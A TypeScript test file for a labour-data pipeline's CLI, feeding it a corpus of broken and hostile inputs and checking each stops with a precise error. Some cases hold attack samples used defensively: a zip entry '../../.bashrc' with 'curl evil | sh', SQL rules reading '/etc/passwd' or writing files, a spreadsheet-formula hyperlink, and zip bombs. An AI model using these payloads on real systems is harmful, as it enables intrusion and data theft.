/**
 * The bad-input corpus: every way an input file arrives broken that a refresh job meets (bad
 * bytes, bad CSV, bad workbooks, zip bombs, formula text, impossible values, broken crosswalks,
 * a broken config). Each case is built at test time from the hand-written mini fixture, run
 * through the real CLI against an output folder holding a published run, and must stop with its
 * exit code and a message naming the file (and row, column, value where there is one), leaving
 * every published file and the run history exactly as they were.
 */
import { copyFileSync, cpSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../pipeline/cli.ts';
import { listRuns } from '../../pipeline/history.ts';
import { openZipArchive } from '../../sources/tabular/zip-archive.ts';
import { captureIO, FIXTURES, snapshot, tempDir } from '../helpers.ts';
import { type CraftedEntry, craftZip, deflated, spacesStream, stored } from '../zip-craft.ts';

const PROJECTIONS = 'projections_state/ca_edd_2023_2033/ca_edd_longterm_2023_2033_statewide.csv';
const SOURCES = {
  projections: 'ca-edd-longterm-2023-2033',
  onet: 'onet-career-clusters-16',
  acte: 'acte-2024-soc',
  soc: 'soc-2018-structure',
} as const;
const ORIGINAL = {
  projections: PROJECTIONS,
  onet: 'career_clusters/onet_all_career_clusters_16.csv',
  acte: 'career_clusters/advance_cte_2024/acte_soc_cluster_subcluster.csv',
  soc: 'soc/bls_soc_structure_2018.csv',
};
const MINI = join(FIXTURES, 'mini-data');
const text = (which: keyof typeof ORIGINAL) => readFileSync(join(MINI, ORIGINAL[which]), 'utf8');
const rows = (which: keyof typeof ORIGINAL): string[][] =>
  Papa.parse<string[]>(text(which), { skipEmptyLines: true }).data;
const csv = (r: string[][]) => `${Papa.unparse(r, { newline: '\n' })}\n`;
/** The projections with cells of one row replaced (row as numbered in the file, 1 = header). */
function withCells(row: number, cells: Record<number, string>): string {
  const r = rows('projections');
  for (const [column, value] of Object.entries(cells))
    (r[row - 1] as string[])[Number(column)] = value;
  return csv(r);
}
const withCell = (row: number, column: number, value: string) =>
  withCells(row, { [column]: value });
/** Projections columns by position (CA EDD layout). */
const COL = { code: 1, title: 2, base: 3, projected: 4, change: 5, pct: 6, exits: 7, annual: 11 };
/** Software Developers, 15-1252: row 6 of the mini projections file. */
const ROW = 6;

async function workbook(data: string[][], sheet = 'Occupational'): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(sheet);
  for (const r of data)
    ws.addRow(r.map((c, i) => (i >= 3 && c !== '' && !Number.isNaN(Number(c)) ? Number(c) : c)));
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const SHEET = 'xl/worksheets/sheet1.xml';

/**
 * The mini projections as a workbook, re-packed entry by entry (deflated, honest sizes and
 * CRCs) after `edit` has had its way with the entries: the zip layer's cases start from here.
 */
async function repacked(edit: (entries: CraftedEntry[]) => CraftedEntry[]): Promise<Buffer> {
  const zip = openZipArchive(await workbook(rows('projections')), 'mini.xlsx');
  return craftZip(edit(zip.names.map((name) => deflated(name, zip.read(name) as Buffer))));
}

/** The sheet's XML edited, the entry re-packed honestly (its CRC and size match the new bytes). */
const withSheet = (edit: (xml: string) => string) =>
  repacked((entries) =>
    entries.map((e) =>
      e.name === SHEET
        ? deflated(
            SHEET,
            edit(
              openZipArchive(craftZip([e]), 'x')
                .read(SHEET)
                ?.toString() ?? '',
            ),
          )
        : e,
    ),
  );

interface Case {
  name: string;
  input: keyof typeof SOURCES;
  ext: 'csv' | 'xlsx';
  build(): string | Buffer | Promise<string | Buffer>;
  /** Texts the message must contain, besides the file's name. */
  says: string[];
  code?: number;
  env?: Record<string, string>;
}

const CASES: Case[] = [
  // ---- bytes and encodings
  {
    name: 'an empty file',
    input: 'projections',
    ext: 'csv',
    build: () => '',
    says: ['the file is empty'],
  },
  {
    name: 'a file of blank lines',
    input: 'projections',
    ext: 'csv',
    build: () => '\n \r\n\n',
    says: ['the file is empty'],
  },
  {
    name: 'UTF-16 LE text',
    input: 'projections',
    ext: 'csv',
    build: () =>
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text('projections'), 'utf16le')]),
    says: ['UTF-16', 'Save it as UTF-8'],
  },
  {
    name: 'UTF-16 BE text',
    input: 'projections',
    ext: 'csv',
    build: () =>
      Buffer.concat([
        Buffer.from([0xfe, 0xff]),
        Buffer.from(text('projections'), 'utf16le').swap16(),
      ]),
    says: ['UTF-16'],
  },
  {
    name: 'Windows-1252 bytes in a title',
    input: 'projections',
    ext: 'csv',
    build: () =>
      Buffer.from(
        text('projections').replace('Software Developers', 'Software Développeurs'),
        'latin1',
      ),
    says: [`row ${ROW}`, 'column "3"', 'byte 0xE9 is not UTF-8'],
  },
  {
    name: 'a gzip file named .csv',
    input: 'projections',
    ext: 'csv',
    build: () => Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]),
    says: ['NUL byte', 'not a text CSV'],
  },
  {
    name: 'a file over the input size limit',
    input: 'projections',
    ext: 'csv',
    build: () => text('projections').repeat(40),
    env: { CLUSTERFIT_MAX_INPUT_MB: '0.01' },
    says: ['over the input limit of 10,485 bytes', 'CLUSTERFIT_MAX_INPUT_MB'],
  },
  // ---- CSV structure
  {
    name: 'a download cut inside a quoted field',
    input: 'projections',
    ext: 'csv',
    build: () => `${text('projections').trimEnd()}\n4,35-2015,"Cooks, Short`,
    says: ['ends inside a quoted field', 'may be truncated'],
  },
  {
    name: 'a row cut short',
    input: 'projections',
    ext: 'csv',
    build: () => `${text('projections').trimEnd()}\n4,35-2015,Cooks Short Order,500\n`,
    says: ['the row has 4 fields but the header has 15'],
  },
  {
    name: 'a required column dropped',
    input: 'projections',
    ext: 'csv',
    build: () => csv(rows('projections').map((r) => r.filter((_, i) => i !== COL.exits))),
    says: ['required column "Exits" is missing'],
  },
  {
    name: 'a CSV from another source',
    input: 'projections',
    ext: 'csv',
    build: () => 'name,value\nfoo,1\nbar,2\n',
    says: ['no header row containing "soc code"'],
  },
  {
    name: 'an HTML error page saved as .csv',
    input: 'projections',
    ext: 'csv',
    build: () => '<!DOCTYPE html>\n<html><body><h1>503 Service Unavailable</h1></body></html>\n',
    says: ['no header row containing "soc code"'],
  },
  // ---- cell values
  {
    name: 'text in a number cell',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.base, '8OO'),
    says: [`row ${ROW}`, 'value "8OO"', 'expected a number'],
  },
  {
    name: 'an empty required code',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.code, ''),
    says: [`row ${ROW}`, 'a value is required here'],
  },
  {
    name: 'negative employment',
    input: 'projections',
    ext: 'csv',
    build: () =>
      withCells(ROW, { [COL.base]: '-800', [COL.projected]: '-640', [COL.change]: '160' }),
    says: [`row ${ROW}`, 'employment cannot be negative'],
  },
  {
    name: 'negative exits',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.exits, '-100'),
    says: [`row ${ROW}`, 'column "exits"', 'cannot be negative'],
  },
  {
    name: 'more jobs than people',
    input: 'projections',
    ext: 'csv',
    build: () =>
      withCells(ROW, {
        [COL.base]: '800000000000',
        [COL.projected]: '800000000160',
        [COL.change]: '160',
      }),
    says: [`row ${ROW}`, 'more jobs than the United States has people'],
  },
  {
    name: 'a wage out of range',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.annual, '166400000'),
    says: [`row ${ROW}`, 'median annual wage', 'from $0 to $2,000,000 a year'],
  },
  {
    name: 'a broken change identity',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.change, '1600'),
    says: [`row ${ROW}`, 'projected − base = change does not hold'],
  },
  {
    name: 'a duplicated occupation row',
    input: 'projections',
    ext: 'csv',
    build: () => {
      const r = rows('projections');
      r.splice(ROW, 0, [...(r[ROW - 1] as string[])]);
      return csv(r);
    },
    says: [`row ${ROW + 1}`, 'appears again (first at row 6)'],
  },
  // ---- formula text: a title that starts like a formula is no longer a bad input; it is kept,
  // warned about and written inert (tests/outputs/formula-injection.test.ts). A code or a
  // sub-level that does still stops the run (the crosswalk case below).
  // ---- workbooks
  {
    name: 'an empty .xlsx',
    input: 'projections',
    ext: 'xlsx',
    build: () => '',
    says: ['the file is empty'],
  },
  {
    name: 'an HTML page saved as .xlsx',
    input: 'projections',
    ext: 'xlsx',
    build: () => '<html>Session expired</html>',
    says: ['as an Excel workbook', 'does not start like a zip archive but with "<htm"'],
  },
  {
    name: 'a zip that is not a workbook',
    input: 'projections',
    ext: 'xlsx',
    build: async () =>
      Buffer.from(
        await new JSZip().file('readme.txt', 'hello').generateAsync({ type: 'uint8array' }),
      ),
    says: ['as an Excel workbook', 'holds no worksheets'],
  },
  {
    name: 'a truncated workbook',
    input: 'projections',
    ext: 'xlsx',
    build: async () => {
      const bytes = await workbook(rows('projections'));
      return bytes.subarray(0, Math.floor(bytes.length * 0.6));
    },
    says: ['as an Excel workbook', 'zip directory is missing'],
  },
  {
    name: 'a zip bomb',
    input: 'projections',
    ext: 'xlsx',
    build: async () =>
      Buffer.from(
        await new JSZip()
          .file('xl/worksheets/sheet1.xml', ' '.repeat(3 * 1024 * 1024))
          .generateAsync({ type: 'uint8array', compression: 'DEFLATE' }),
      ),
    env: { CLUSTERFIT_MAX_UNZIPPED_MB: '2' },
    says: [
      'would inflate to 3,145,728 bytes by entry "xl/worksheets/sheet1.xml"',
      'possible zip bomb',
    ],
  },
  {
    name: 'a workbook without the expected sheet',
    input: 'projections',
    ext: 'xlsx',
    build: () => workbook(rows('projections'), 'Sheet1'),
    says: ['has no sheet named "Occupational" (sheets present: Sheet1)'],
  },
  {
    name: 'a workbook whose directory says 1,000 bytes for a sheet that inflates to 1 GiB',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      repacked((entries) =>
        entries.map((e) => (e.name === SHEET ? { ...e, data: spacesStream(1024), size: 1000 } : e)),
      ),
    says: [`zip entry "${SHEET}"`, 'inflates to more than 1,001 bytes', 'declares 1,000'],
  },
  {
    name: 'a workbook with one digit of a wage changed after zipping (stored sheet, CRC kept)',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      repacked((entries) =>
        entries.map((e) => {
          if (e.name !== SHEET) return e;
          const xml =
            openZipArchive(craftZip([e]), 'x')
              .read(SHEET)
              ?.toString() ?? '';
          expect(xml).toContain('<v>166400</v>');
          const honest = stored(SHEET, xml);
          return { ...honest, data: Buffer.from(xml.replace('<v>166400</v>', '<v>966400</v>')) };
        }),
      ),
    says: [`zip entry "${SHEET}"`, 'its CRC-32 is', 'but the zip directory declares'],
  },
  {
    name: 'a workbook holding an entry that climbs out of the archive',
    input: 'projections',
    ext: 'xlsx',
    build: () => repacked((entries) => [...entries, stored('../../.bashrc', 'curl evil | sh')]),
    says: ['zip entry "../../.bashrc"', 'climbs out with ".."'],
  },
  {
    name: 'a workbook cell pointing past the shared strings',
    input: 'projections',
    ext: 'xlsx',
    build: () => withSheet((xml) => xml.replace(/(<c r="C6"[^>]*t="s"[^>]*><v>)\d+/, '$199999')),
    says: ['cell C6 of sheet "Occupational" points to shared string 99999'],
  },
  {
    name: 'a workbook number cell holding "800abc"',
    input: 'projections',
    ext: 'xlsx',
    build: () => withSheet((xml) => xml.replace(/(<c r="D6"[^>]*><v>)800</, '$1800abc<')),
    says: ['sheet "Occupational"', `row ${ROW}`, 'value "800abc"', 'expected a number'],
  },
  {
    name: 'a workbook whose shared strings hold a Windows-1252 byte',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      repacked((entries) =>
        entries.map((e) => {
          if (e.name !== 'xl/sharedStrings.xml') return e;
          const xml = openZipArchive(craftZip([e]), 'x').read(e.name) as Buffer;
          const at = xml.indexOf('Software Developers');
          expect(at).toBeGreaterThan(0);
          // "Software Développeurs" as Windows-1252 writes it: é is the single byte 0xE9.
          const latin1 = Buffer.from('Software D\xe9veloppeurs', 'latin1');
          const edited = Buffer.concat([xml.subarray(0, at), latin1, xml.subarray(at + 19)]);
          return deflated(e.name, edited);
        }),
      ),
    says: [
      'as an Excel workbook',
      'its part "xl/sharedStrings.xml" is not UTF-8 text (byte 0xE9 at offset',
    ],
  },
  {
    name: 'a workbook merging the whole sheet (17 billion cells)',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      withSheet((xml) =>
        xml.replace(
          '</worksheet>',
          '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>',
        ),
      ),
    says: ['the merged cells A1:XFD1048576 of sheet "Occupational"'],
  },
  {
    name: 'a workbook cell past the last column',
    input: 'projections',
    ext: 'xlsx',
    build: () => withSheet((xml) => xml.replace('r="D6"', 'r="ZZZZZZ6"')),
    says: ['cell ZZZZZZ6 of sheet "Occupational" lies past Excel\'s columns'],
  },
  {
    name: 'a workbook with a character reference past Unicode',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      repacked((entries) =>
        entries.map((e) => {
          if (e.name !== 'xl/sharedStrings.xml') return e;
          const xml =
            openZipArchive(craftZip([e]), 'x')
              .read(e.name)
              ?.toString() ?? '';
          return deflated(e.name, xml.replace('Software Developers', 'Software &#99999999;'));
        }),
      ),
    says: ['as an Excel workbook', 'it holds the character reference &#99999999;'],
  },
  // Before the XML checks, each of these took minutes: a lazy pattern scanned to the end of
  // the sheet once per unclosed tag.
  {
    name: 'a workbook sheet with a megabyte of tags that never end',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      withSheet((xml) => xml.replace('</sheetData>', `${'<row '.repeat(200_000)}</sheetData>`)),
    says: [`its part "${SHEET}" is not well-formed XML`, 'does not end'],
  },
  {
    name: 'a workbook sheet with 100,000 rows opened and never closed',
    input: 'projections',
    ext: 'xlsx',
    build: () =>
      withSheet((xml) => xml.replace('</sheetData>', `${'<row r="9"><c r="A9">'.repeat(100_000)}`)),
    says: ['its XML opens <row> at character', 'never closes it'],
  },
  // ---- numbers checked, not trusted
  ...['302500abc', '0,176', '1,23,456', '1.2.3', '--5', '1e999', 'Infinity', 'NaN', '0x10'].map(
    (value): Case => ({
      name: `"${value}" as base employment`,
      input: 'projections',
      ext: 'csv',
      build: () => withCell(ROW, COL.base, value),
      says: [`row ${ROW}`, `value "${value}"`, 'expected a number'],
    }),
  ),
  {
    name: 'a percent sign in a column of fractions',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.pct, '17.55%'),
    says: [`row ${ROW}`, 'value "17.55%"', 'does not hold percents'],
  },
  {
    name: 'a percent change that disagrees with base and projected',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.pct, '0.02'),
    says: [`row ${ROW}`, '(projected − base) / base = percent change does not hold'],
  },
  {
    name: 'a row with more fields than its header (an unquoted comma in a title)',
    input: 'projections',
    ext: 'csv',
    build: () => text('projections').replace('Software Developers', 'Software, Developers'),
    says: [`row ${ROW}`, 'the row has 16 fields but the header has 15'],
  },
  {
    name: 'a duplicated total row',
    input: 'projections',
    ext: 'csv',
    build: () => {
      const r = rows('projections');
      r.splice(2, 0, [...(r[1] as string[])]);
      return csv(r);
    },
    says: ['row 3', 'value "00-0000"', 'appears again (first at row 2)'],
  },
  {
    name: 'a title of a megabyte',
    input: 'projections',
    ext: 'csv',
    build: () => withCell(ROW, COL.title, 'Software Developers '.repeat(52_429)),
    says: [`row ${ROW}`, 'column "Occupational Title[3]"', 'over the limit of 10,000'],
  },
  {
    name: '200,000 rows that each break the change identity',
    input: 'projections',
    ext: 'csv',
    build: () => {
      const [header, total] = rows('projections') as string[][];
      const bad = (i: number) =>
        `4,${String(11 + Math.floor(i / 10000)).padStart(2, '0')}-${String(i % 10000).padStart(4, '0')},Occupation ${i},800,960,999,0.2,100,300,1399,80,166400,N/A,N/A,N/A`;
      return `${csv([header as string[], total as string[]])}${Array.from({ length: 200_000 }, (_, i) => bad(i)).join('\n')}\n`;
    },
    says: ['200000 problems in the input data stop the run', '… and 199990 more'],
  },
  // ---- crosswalks and structure files
  {
    name: 'an empty O*NET crosswalk',
    input: 'onet',
    ext: 'csv',
    build: () => '',
    says: ['the file is empty'],
  },
  {
    name: 'an O*NET crosswalk without its Code column',
    input: 'onet',
    ext: 'csv',
    build: () => csv(rows('onet').map((r) => r.filter((_, i) => i !== 2))),
    says: ['required column', 'Code'],
  },
  {
    name: 'an O*NET crosswalk with a malformed code',
    input: 'onet',
    ext: 'csv',
    build: () => {
      const r = rows('onet');
      (r[2] as string[])[2] = '29-11X1.00';
      return csv(r);
    },
    says: ['row 3', 'value "29-11X1.00"', 'expected a SOC code'],
  },
  {
    name: 'an Advance CTE crosswalk with Windows-1252 bytes',
    input: 'acte',
    ext: 'csv',
    build: () =>
      Buffer.from(
        text('acte').replace('Registered Nurses', 'Registered Nurses (Infirmière)'),
        'latin1',
      ),
    says: ['row 2', 'is not UTF-8'],
  },
  {
    name: 'an Advance CTE crosswalk with formula text',
    input: 'acte',
    ext: 'csv',
    build: () => text('acte').replace('Patient Care', '=1+1'),
    says: ['row 2', 'looks like a spreadsheet formula'],
  },
  {
    name: 'a SOC structure file from another source',
    input: 'soc',
    ext: 'csv',
    build: () => text('onet'),
    says: ['no header row containing "major group"'],
  },
];

// ---- config safety: a config is data, never code that reaches outside its run
/** A config that must stop the run: merged over tests/fixtures/configs/mini.json. */
interface ConfigCase {
  name: string;
  config: Record<string, unknown>;
  /** Texts the message must contain, besides the config file's name. */
  says: string[];
}
const rule = (expression: string) => ({ rules: [{ id: 'sly', expression }] });
const CONFIG_CASES: ConfigCase[] = [
  {
    name: 'a rule reading a file',
    config: rule("(select count(*) from read_text('/etc/passwd')) > 0"),
    says: ['key "rules[0]"', 'rule "sly"', 'subquery'],
  },
  {
    name: 'a rule reading a file as a scalar',
    config: rule("length(read_text('/etc/passwd')) > 0"),
    says: ['key "rules[0]"', 'cannot be evaluated'],
  },
  {
    name: 'a rule writing a file',
    config: rule(
      "true) from int_occupation_facts; copy (select 1) to '/tmp/cf-corpus.csv'; select (true",
    ),
    says: ['rules[0].expression', 'single SQL expression'],
  },
  {
    name: 'a rule reaching the network',
    config: rule("(select count(*) from read_csv('http://127.0.0.1:9/x.csv')) > 0"),
    says: ['key "rules[0]"', 'subquery'],
  },
  {
    name: 'a rule escaping its parentheses',
    config: rule(
      "true) from int_occupation_facts union select (content <> '') from read_text('/etc/passwd') union select (true",
    ),
    says: ['key "rules[0]"', 'not a single expression'],
  },
  {
    name: 'a rule reading a setting',
    config: rule("current_setting('home_directory') <> ''"),
    says: ['key "rules[0]"', 'current_setting()'],
  },
  {
    name: 'a rule id that repeats a published column',
    config: { rules: [{ id: 'high_wage', preset: 'onet-bright-outlook' }] },
    says: ['key "rules[0].id" is "high_wage"', 'a second column named "high_wage_share"'],
  },
  {
    name: 'a rule id whose share repeats a metric',
    config: { rules: [{ id: 'postsecondary', expression: 'true' }] },
    says: ['key "rules[0].id" is "postsecondary"', 'a second column named "postsecondary'],
  },
  {
    name: '10^9 Monte Carlo draws',
    config: { stability: { draws: 1e9 } },
    says: ['key "stability.draws" is 1000000000', 'from 0 to 1,000,000'],
  },
  {
    name: 'top_n 0',
    config: { selection: { method: 'top_n', top_n: 0 } },
    says: ['key "selection.top_n" is 0', 'approves none'],
  },
  {
    name: 'top_n above the clusters of the area',
    config: { selection: { method: 'top_n', top_n: 9 } },
    says: [
      'key "selection.top_n" is 9',
      'framework acte2024 has only 6 clusters with jobs in area CA',
    ],
  },
  {
    name: 'a top_share of 0',
    config: { selection: { method: 'top_share', top_share: 0 } },
    says: ['key "selection.top_share" is 0'],
  },
  {
    name: 'a wage threshold jitter of 100%',
    config: { stability: { wage_threshold_jitter: 1 } },
    says: ['key "stability.wage_threshold_jitter" is 1', 'below 1'],
  },
  {
    name: 'a negative weight',
    config: { weights: { median_wage: -0.5, annual_openings: 1 } },
    says: ['key "weights.median_wage" is -0.5'],
  },
  {
    name: 'a variant renaming a cluster to a formula',
    config: {
      framework_variants: [
        { id: 'st', base: 'legacy16', rename: { 'Health Science': '=HYPERLINK("http://x","y")' } },
      ],
      frameworks: ['st'],
    },
    says: ['framework_variants[0].rename.Health Science', 'spreadsheet formula'],
  },
  {
    name: 'a framework title of two lines',
    config: {
      framework_variants: [{ id: 'st', base: 'legacy16', title: 'State\n# Injected heading' }],
      frameworks: ['st'],
    },
    says: ['framework_variants[0].title', 'one line of text'],
  },
];

describe('bad-input corpus: each case stops with a precise message and publishes nothing', () => {
  let work: string;
  let out: string;
  let before: Record<string, string>;
  let runs: string[];

  beforeAll(async () => {
    work = tempDir('clusterfit-corpus-');
    cpSync(MINI, join(work, 'data'), { recursive: true });
    mkdirSync(join(work, 'data', 'bad'));
    out = join(work, 'out');
    const io = captureIO();
    const code = await main(
      [
        'run',
        '--config',
        join(FIXTURES, 'configs', 'mini.json'),
        '--data-dir',
        join(work, 'data'),
        '--out',
        out,
        '--draws',
        '20',
      ],
      io,
    );
    expect(code, io.stderr).toBe(0);
    before = snapshot(out);
    runs = (await listRuns(out)).map((r) => r.run_id);
  });

  it('has at least 30 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(30);
  });

  for (const [i, c] of CASES.entries()) {
    it(`${c.name}: exit ${c.code ?? 3}, message names the place`, async () => {
      const file = `bad/case-${String(i).padStart(2, '0')}.${c.ext}`;
      writeFileSync(join(work, 'data', file), await c.build());
      const config = join(work, `case-${i}.json`);
      const base = JSON.parse(readFileSync(join(FIXTURES, 'configs', 'mini.json'), 'utf8'));
      base.inputs = { ...base.inputs, [SOURCES[c.input]]: file };
      writeFileSync(config, JSON.stringify(base));
      const saved = { ...process.env };
      Object.assign(process.env, c.env ?? {});
      const io = captureIO();
      let code: number;
      try {
        code = await main(
          [
            'run',
            '--config',
            config,
            '--data-dir',
            join(work, 'data'),
            '--out',
            out,
            '--draws',
            '20',
          ],
          io,
        );
      } finally {
        for (const k of Object.keys(c.env ?? {})) delete process.env[k];
        Object.assign(process.env, saved);
      }
      expect(code, io.stderr).toBe(c.code ?? 3);
      expect(io.stderr).toContain(file);
      for (const s of c.says) expect(io.stderr).toContain(s);
      expect(io.stderr).toContain('Nothing was published');
      expect(snapshot(out)).toEqual(before);
      expect((await listRuns(out)).map((r) => r.run_id)).toEqual(runs);
    });
  }

  for (const [i, c] of CONFIG_CASES.entries()) {
    it(`config: ${c.name}: exit 2, message names the file and key`, async () => {
      const config = join(work, `config-case-${i}.json`);
      const base = JSON.parse(readFileSync(join(FIXTURES, 'configs', 'mini.json'), 'utf8'));
      writeFileSync(config, JSON.stringify({ ...base, ...c.config }));
      const io = captureIO();
      const code = await main(
        [
          'run',
          '--config',
          config,
          '--data-dir',
          join(work, 'data'),
          '--out',
          out,
          '--draws',
          '20',
        ],
        io,
      );
      expect(code, io.stderr).toBe(2);
      expect(io.stderr).toContain(config);
      for (const s of c.says) expect(io.stderr).toContain(s);
      expect(io.stderr).not.toMatch(/\n\s+at /);
      expect(io.stderr).not.toContain('root:');
      expect(existsSync('/tmp/cf-corpus.csv')).toBe(false);
      expect(snapshot(out)).toEqual(before);
      expect((await listRuns(out)).map((r) => r.run_id)).toEqual(runs);
    });
  }

  it('a config that is not JSON: exit 2 naming the file and the place', async () => {
    const config = join(work, 'broken.json');
    copyFileSync(join(FIXTURES, 'configs', 'mini.json'), config);
    writeFileSync(config, readFileSync(config, 'utf8').replace('"top_n": 3 }', '"top_n": 3, }'));
    const io = captureIO();
    const code = await main(
      ['run', '--config', config, '--data-dir', join(work, 'data'), '--out', out],
      io,
    );
    expect(code).toBe(2);
    expect(io.stderr).toContain(config);
    expect(snapshot(out)).toEqual(before);
  });
});
